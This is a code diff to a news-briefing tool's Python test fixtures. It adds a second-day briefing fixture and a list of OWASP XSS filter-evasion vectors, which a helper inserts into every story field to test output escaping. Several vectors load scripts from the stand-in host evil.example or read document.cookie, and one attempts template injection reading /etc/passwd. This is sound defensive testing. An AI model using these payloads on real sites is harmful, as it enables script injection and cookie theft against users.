@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import hashlib
+from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta, timezone
 from typing import Any
 
 from digest.model import (
     Article,
     Briefing,
+    Correction,
     DateCandidate,
     Difference,
     DifferingValue,
@@ -364,3 +366,146 @@ def single() -> Briefing:
     """A one-off briefing with one story, and one file left out."""
     left = (LeftOut("feeds/404.html", "not an article: error page"),)
     return Briefing("briefing", "Briefing", SLOT, None, SLOT, (_ferry(),), left, SETTINGS)
+
+
+def second() -> Briefing:
+    """A second day: a story runs on and corrects, one is corrected, one is new; sections, and another language kept apart."""
+    ferry, orrin, souq = _ferry(), _observatory(), _arabic()
+    post = next(one for one in ferry.articles if one.id == "a1")
+    daily = next(one for one in ferry.articles if one.id == "a2")
+    day = date(2026, 11, 20)
+    now = said(post, "Repairs to the slipway cost 14 million crowns")
+    running = replace(
+        ferry,
+        status="running",
+        first_seen=date(2026, 11, 18),
+        points=tuple(replace(point, new=True) for point in ferry.points),
+        corrections=(
+            Correction(day, post, "Repairs to the slipway cost 12 million crowns.", now),
+            Correction(day, post, "The mayor abstained."),
+            Correction(day, daily, None),
+        ),
+        section="Transport",
+    )  # fmt: skip
+    corrected = replace(
+        orrin,
+        status="corrected",
+        first_seen=day,
+        points=tuple(replace(point, new=False) for point in orrin.points),
+        corrections=(Correction(day, orrin.articles[0], "A third ring found around Orrin", headline=True),),
+        section="Science",
+    )
+    fresh = _short(
+        "g1", "Fen Gazette", "Bakers agree to end night work", "The guild of bakers agreed to end night work."
+    )
+    return Briefing(
+        "morning",
+        "Morning briefing",
+        SLOT,
+        datetime(2026, 11, 20, 7, 0, 12, tzinfo=ZONE),
+        datetime(2026, 11, 21, 7, 0, 4, tzinfo=ZONE),
+        (fresh, running, corrected, replace(souq, apart=True)),
+        (),
+        SETTINGS,
+    )
+
+
+# Vectors of OWASP's cheat sheet on filter evasion (cheatsheetseries.owasp.org), in our own words where words stand in them.
+OWASP = (
+    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
+    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
+    '<IMG SRC="javascript:alert(1);">',
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(1)\"></img>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
+    '<IMG SRC="jav\tascript:alert(1);">',
+    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
+    '<IMG SRC=" &#14; javascript:alert(1);">',
+    "<SCRIPT/XSS SRC=https://evil.example/xss.js></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
+    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
+    "<SCRIPT SRC=//evil.example/.j>",
+    '<IMG SRC="`<javascript:alert>`(1)"',
+    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
+    "<BODY BACKGROUND=\"javascript:alert(1)\">",
+    "<svg/onload=alert(1)>",
+    "<BR SIZE=\"&{alert(1)}\">",
+    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
+    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
+    "<META HTTP-EQUIV=\"Link\" Content=\"<https://evil.example/xss.css>; REL=stylesheet\">",
+    "<STYLE>BODY{-moz-binding:url(\"https://evil.example/xssmoz.xml#xss\")}</STYLE>",
+    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
+    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
+    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
+    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
+    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
+    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
+    '<BASE HREF="javascript:alert(1);//">',
+    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+    '<? echo(\'<SCR)\';echo(\'IPT>alert(1)</SCRIPT>\'); ?>',
+    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
+    '<a onmouseover="alert(document.cookie)">xxs link</a>',
+    '"><script>alert(1)</script>',
+    "';alert(1)//\\';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
+    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "</details></article></main><h1>Out of the page</h1>",
+    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} {{ ''.__class__.__mro__ }}",
+    "\u202ereversed\u2066 isolated\u2069 \u200fmarked\u061c",
+    "W" * 5000,
+)  # fmt: skip
+
+
+def owasp(vector: str, number: int = 0) -> Story:
+    """A story of two reports with `vector` in every field that a source can fill."""
+    text = f"It begins with {vector} inside.\n\nThen a second sentence stands here with {vector} too."
+    one, two = (
+        article(
+            f"x{number}-{n}",
+            f"{vector} {n}",
+            vector,
+            text,
+            origin=f"feeds/{vector}/{n}.txt",
+            member=vector,
+            url=vector,
+            authors=(vector,),
+            agency=vector,
+            language=vector,
+            published=datetime(2026, 11, 20, n, 0, tzinfo=UTC),
+            published_from=vector,
+            dates=(DateCandidate(date(2023, 1, 19), vector, vector),),
+        )
+        for n in (1, 2)
+    )
+    at = text.index(vector)
+    whole, part = Excerpt(one, 0, text.index("\n")), Excerpt(two, at, at + len(vector))
+    return Story(
+        f"st-{vector}",
+        (Report((one,), one.source), Report((two,), vector)),
+        headline=Headline(vector, one.id),
+        points=(Point(whole, (part,), reports=2, speaker=f"Spokesman {vector}"),),
+        differences=(
+            Difference(vector, "other", (DifferingValue(vector, part), DifferingValue(f"2 {vector}", whole))),
+        ),
+        only_in=(part,),
+        timeline=(TimelineEntry(date(2026, 11, 20), part),),
+        rank=Rank(1.0, (vector,)),
+        status="running",
+        corrections=(Correction(date(2026, 11, 20), one, vector, part),),
+        section=vector,
+    )
+
+
+def hostile() -> Briefing:
+    """Every vector in every field."""
+    stories = tuple(owasp(vector, number) for number, vector in enumerate(OWASP))
+    left = tuple(LeftOut(f"feeds/{vector}", vector, vector, "left out", vector) for vector in OWASP)
+    return replace(second(), title=OWASP[0], stories=stories, left_out=left)
